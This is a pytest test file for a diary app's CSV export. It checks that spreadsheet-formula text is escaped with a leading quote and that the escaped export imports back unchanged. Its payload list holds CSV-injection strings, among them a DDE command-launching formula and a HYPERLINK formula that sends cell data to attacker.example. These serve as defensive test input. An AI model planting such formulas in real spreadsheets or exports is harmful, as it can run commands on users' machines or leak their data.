"""CSV export escapes text a spreadsheet would run as a formula (OWASP CSV injection).

The web's export zip is made by the same `export_csv`, so this covers both.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from typer.testing import CliRunner

from kneewise.cli import app
from kneewise.diary import (
    Diary,
    SessionRecord,
    add_session,
    export_csv,
    import_file,
    list_sessions,
    open_diary,
)
from kneewise.diary.importers._common import escape_formula, unescape_formula
from kneewise.diary.repository import add_questionnaire_answer, delete_session

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]
SAFE = ["easy run", "felt fine = good", "5 km", "'quoted", ""]


@pytest.mark.parametrize("text", [*PAYLOADS, "\tx", "\rx"])
def test_formula_starts_get_a_single_quote_and_come_back(text: str) -> None:
    assert escape_formula(text) == "'" + text
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("text", SAFE)
def test_other_text_is_left_alone(text: str) -> None:
    assert escape_formula(text) == text
    assert unescape_formula(text) == text


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def session(day: int, notes: str) -> SessionRecord:
    return SessionRecord(
        date=dt.date(2024, 5, day), activity="running", duration_min=30 + day, notes=notes
    )


def test_export_escapes_text_cells_and_not_numbers(diary: Diary, tmp_path: Path) -> None:
    for day, notes in enumerate(PAYLOADS, start=1):
        add_session(diary, session(day, notes))
    add_questionnaire_answer(diary, '=HYPERLINK("x")', dt.date(2024, 5, 1), {"q1": -1}, -12.5)
    export_csv(diary, tmp_path / "export")

    written = [row["notes"] for row in rows(tmp_path / "export" / "diary.csv")]
    assert written == ["'" + text for text in PAYLOADS]
    durations = [row["duration_min"] for row in rows(tmp_path / "export" / "diary.csv")]
    assert durations == [str(30 + day) for day in range(1, len(PAYLOADS) + 1)]

    (questionnaire,) = rows(tmp_path / "export" / "questionnaires.csv")
    assert questionnaire["instrument"] == '\'=HYPERLINK("x")'
    assert questionnaire["score"] == "-12.5"  # a negative number stays a number
    assert questionnaire["answers"] == '{"q1": -1}'

    every_cell = [
        cell
        for name in ("diary.csv", "profile.csv", "assessments.csv", "questionnaires.csv")
        for row in rows(tmp_path / "export" / name)
        for column, cell in row.items()
        if column != "score"
    ]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_escaped_export_imports_back_unchanged(diary: Diary, tmp_path: Path) -> None:
    for day, notes in enumerate(PAYLOADS, start=1):
        add_session(diary, session(day, notes))
    (exported,) = [p for p in export_csv(diary, tmp_path / "out") if p.name == "diary.csv"]
    before = [s.notes for s in list_sessions(diary)]
    for stored in list_sessions(diary):
        assert stored.id is not None
        delete_session(diary, stored.id)
    assert import_file(diary, exported).sessions_added == len(PAYLOADS)
    assert [s.notes for s in list_sessions(diary)] == before == PAYLOADS


def test_the_cli_export_is_escaped(cli_data_dir: Path, tmp_path: Path) -> None:
    add_session(open_diary(), session(1, "=cmd|' /C calc'!A0"))
    result = CliRunner().invoke(app, ["export", "--format", "csv", "--out", str(tmp_path / "x")])
    assert result.exit_code == 0
    (row,) = rows(tmp_path / "x" / "diary.csv")
    assert row["notes"] == "'=cmd|' /C calc'!A0"
    assert row["duration_min"] == "31"
